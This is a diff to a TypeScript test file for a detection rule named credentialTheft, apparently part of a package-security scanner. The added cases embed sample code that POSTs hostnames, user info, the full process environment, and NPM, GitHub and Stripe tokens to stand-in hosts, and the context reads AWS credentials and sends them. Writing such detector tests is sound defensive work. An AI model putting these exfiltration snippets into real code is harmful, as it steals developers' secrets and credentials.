@@ -5,8 +5,30 @@ import { credentialTheft } from './credential-theft.ts';
 const fs = "import fs from 'node:fs';\nimport os from 'node:os';\nimport path from 'node:path';\n";
 const send = "fetch('https://sync.example', { method: 'POST', body: JSON.stringify({ key }) });\n";
 
+const post = (data: string) => `fetch('https://in.example', { method: 'POST', body: JSON.stringify(${data}) });\n`;
+
 testRule(credentialTheft, {
   caught: [
+    {
+      of: 'who and where somebody is, without an install script',
+      files: `${fs}${post('{ a: os.hostname(), b: os.userInfo() }')}`,
+      severity: 'critical',
+      permissions: null,
+    },
+    {
+      of: 'the whole environment behind the name of the machine',
+      files: `${fs}${post('{ a: os.hostname(), b: process.env }')}`,
+      severity: 'critical',
+      says: 'environment',
+      permissions: null,
+    },
+    {
+      of: 'the secrets of several services',
+      files: post('[process.env.NPM_TOKEN, process.env.GITHUB_TOKEN, process.env.STRIPE_KEY]'),
+      severity: 'critical',
+      says: 'several services',
+      permissions: null,
+    },
     {
       of: 'a key that is sent',
       files: `${fs}const key = fs.readFileSync(path.join(os.homedir(), '.aws', 'credentials'));\n${send}`,
